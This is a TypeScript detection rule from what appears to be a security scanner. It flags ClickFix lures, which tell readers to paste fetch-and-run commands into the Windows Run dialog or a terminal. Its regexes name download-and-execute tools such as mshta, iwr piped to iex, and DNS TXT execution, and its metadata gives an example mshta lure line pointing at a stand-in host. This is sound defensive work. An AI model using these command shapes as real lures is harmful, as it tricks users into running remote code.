import { PLACEHOLDER_FETCH_RE } from '../benign-forms';
import { defineRegexRule, perFile, perLine, windowText } from '../regex-rule';
import type { Rule } from '../rule.types';
import type { ScanContext } from '../../views/scan-context';

/** The Run dialog ("Win+R"): where ClickFix lures have the reader paste a command. */
const RUN_DIALOG =
  /\b(?:Win(?:dows)?(?:\s{0,2}key)?\s{0,2}\+\s{0,2}R|Windows\s{1,3}Run\s{1,3}(?:dialog|box)|Run\s{1,3}dialog(?:\s{1,3}box)?)\b|⊞\s{0,2}\+?\s{0,2}R\b/i;
/** mshta fetching a remote HTA or script: no file, no review. */
const MSHTA_REMOTE = /\bmshta(?:\.exe)?\s{1,3}["']?(?:https?:|vbscript:|javascript:|\\\\)/i;
/** An inline mshta script (`vbscript:…`, `javascript:…`) that reaches out: objects, shells, other scripts, the network. */
const INLINE_SCRIPT_ACTS =
  /\b(?:CreateObject|GetObject|ActiveXObject|WScript\.Shell|Shell\.Application|\.Run|\.Exec|Execute(?:Global)?|eval|powershell|cmd(?:\.exe)?|https?:|script:|\\\\)/i;
/** A DNS TXT record fetched and executed (`nslookup -q=txt … | iex`, `for /f … nslookup … do cmd /c`). */
const DNS_TXT_EXEC =
  /\bnslookup\b[^\n]{0,120}-(?:q|querytype|type)\s{0,2}=\s{0,2}txt\b[^\n]{0,200}(?:\|\s{0,3}(?:iex|Invoke-Expression|(?:ba)?sh|cmd)\b|\bdo\s{1,3}(?:cmd|powershell|call)\b|\biex\b)|\bfor\s{1,3}\/f\b[^\n]{0,120}\bnslookup\b[^\n]{0,200}\bdo\s{1,3}(?:cmd|powershell|call|%)|\bdig\b[^\n]{0,80}\bTXT\b[^\n]{0,120}\|\s{0,3}(?:sudo\s{1,3})?(?:ba|z)?sh\b|Resolve-DnsName\b[^\n]{0,160}-Type\s{1,3}TXT\b[^\n]{0,200}\b(?:iex|Invoke-Expression)\b/i;
/** "Copy and paste this into your terminal", "run this in PowerShell", "type it into the Run box". */
const PASTE_INTO_SHELL =
  /\b(?:copy|paste|run|execute|enter|type)\b[^\n]{0,60}\b(?:in|into)\s{1,3}(?:a\s{1,3}|your\s{1,3}|the\s{1,3})?(?:new\s{1,3})?(?:terminal|powershell|command\s{1,3}prompt|cmd(?:\.exe)?|run\s{1,3}(?:dialog|box|window)|shell)\b|\bpaste\b[^\n]{0,40}\b(?:and|then)\s{1,3}(?:press|hit)\s{1,3}(?:enter|return)\b|\bopen\s{1,3}(?:a\s{1,3}|your\s{1,3}|the\s{1,3})?(?:new\s{1,3})?(?:terminal|powershell|command\s{1,3}prompt|cmd)\b[^\n]{0,40}\bpaste\b/i;
/** A remote fetch executed on the spot, somewhere near the lure. */
const REMOTE_RUN_NEAR =
  /\b(?:curl|wget|iwr|irm|Invoke-WebRequest|Invoke-RestMethod|DownloadString|mshta|certutil\s{1,3}-urlcache|bitsadmin)\b[^\n]{0,200}(?:\||\biex\b|&&|;)|powershell(?:\.exe)?\s[^\n]{0,80}-(?:e|ec|enc|encodedcommand)\s{1,3}[A-Za-z0-9+/=]{16,}/i;

/** Why the lure says the command is needed: fix, verify, unlock, prove you are human. */
const LURE_PRETEXT =
  /\b(?:fix|repair|verify|verification|captcha|human|unlock|activate|restore|resolve|troubleshoot|out\s{1,3}of\s{1,3}date|outdated|broken|damaged|corrupt(?:ed)?|expired|if\s{1,3}(?:it|this|the\s{1,3}\w{1,20})\s{1,3}(?:fails?|doesn'?t|does\s{1,3}not|cannot|can'?t|is\s{1,3}not))\b/i;

/** Near a line (within NEAR_RADIUS lines): a fetch-and-run command, and one with a lure's pretext. */
interface NearFetch {
  remoteRun: boolean;
  withPretext: boolean;
}
const NEAR_RADIUS = 4;
/** Per distinct window text: repeated content repeats its windows, and a window of long lines is costly to search. */
const nearTexts = perFile((_ctx: ScanContext) => new Map<string, NearFetch>());

/** Read once per line, however many hits it has. */
const near = perLine((ctx: ScanContext, line: number): NearFetch => {
  const text = windowText(ctx, line, NEAR_RADIUS);
  const byText = nearTexts(ctx);
  let found = byText.get(text);
  if (!found) {
    // A fetch from a placeholder (`iwr <url> | iex`) describes the lure's shape; it cannot run.
    const remoteRun = REMOTE_RUN_NEAR.test(text) && !PLACEHOLDER_FETCH_RE.test(text);
    found = { remoteRun, withPretext: remoteRun && LURE_PRETEXT.test(text) };
    byText.set(text, found);
  }
  return found;
});

/**
 * ClickFix: the reader is told to paste a one-line command into the Run dialog or a terminal "to
 * fix" or "verify" something. The command fetches the real payload, so the file itself carries none.
 */
const clickfixRule = defineRegexRule({
  meta: {
    id: 'BW-SUP-003',
    title: 'Copy-paste command lure (ClickFix): Run dialog, mshta, DNS TXT execution',
    category: 'remote_code_execution',
    severity: 'high',
    confidence: 'medium',
    asset_type: 'instructions',
    rationale:
      'ClickFix lures have the user open the Run dialog or a terminal and paste a command that fetches and runs the payload (PowerShell download cradles, mshta with a URL, a DNS TXT record piped to the shell). Remote mshta and DNS-TXT execution are critical on their own; "paste this into your terminal" is high when a fetch-and-run command is near, medium otherwise.',
    example: 'Press Win+R and paste: mshta https://fix.test/verify.hta',
  },
  triggers: [
    'win',
    'run dialog',
    'run box',
    'run window',
    '⊞',
    'mshta',
    'nslookup',
    'dig',
    'resolve-dnsname',
    'terminal',
    'powershell',
    'command prompt',
    'cmd',
    'shell',
    'paste',
  ],
  patterns: [RUN_DIALOG, MSHTA_REMOTE, DNS_TXT_EXEC, PASTE_INTO_SHELL],
  views: ['raw', 'normalized', 'decoded'],
  refine(hit, m, ctx) {
    if (MSHTA_REMOTE.test(m[0]) && /(?:vb|java)script:$/i.test(m[0])) {
      // An inline script that only shows a message box (a batch-file popup) fetches and runs nothing.
      const lineText = ctx.lines[hit.line - 1] ?? '';
      const at = lineText.toLowerCase().indexOf('script:');
      // The script ends where its code span does (a reference line may name other commands after it).
      const tick = lineText.indexOf('`', at);
      if (at >= 0 && !INLINE_SCRIPT_ACTS.test(lineText.slice(at + 7, Math.min(at + 407, tick < 0 ? Infinity : tick))))
        return { ...hit, severity: 'low', confidence: 'low', message: 'mshta with an inline script that reaches nothing outside' };
    }
    if (MSHTA_REMOTE.test(m[0]) || DNS_TXT_EXEC.test(m[0])) return { ...hit, severity: 'critical', confidence: 'high' };
    const { remoteRun, withPretext } = near(ctx, hit.line);
    // Plain Windows how-tos say "press Win+R, type cmd"; the lure pastes a fetch-and-run line there.
    if (RUN_DIALOG.test(m[0])) return remoteRun ? { ...hit, severity: 'critical' } : { ...hit, severity: 'low', message: 'Run-dialog instruction' };
    // "Paste into your terminal" is how installers are documented; the lure adds a fix/verify pretext.
    if (withPretext) return hit;
    return { ...hit, severity: 'low', confidence: 'low', message: 'Paste-into-terminal instruction' };
  },
});

/** The regex rule plus the regexes its refine grades with, so the ReDoS check sees them all. */
export const supClickfixCommandRule: Rule = { ...clickfixRule, regexes: [...clickfixRule.regexes, REMOTE_RUN_NEAR, LURE_PRETEXT, INLINE_SCRIPT_ACTS] };
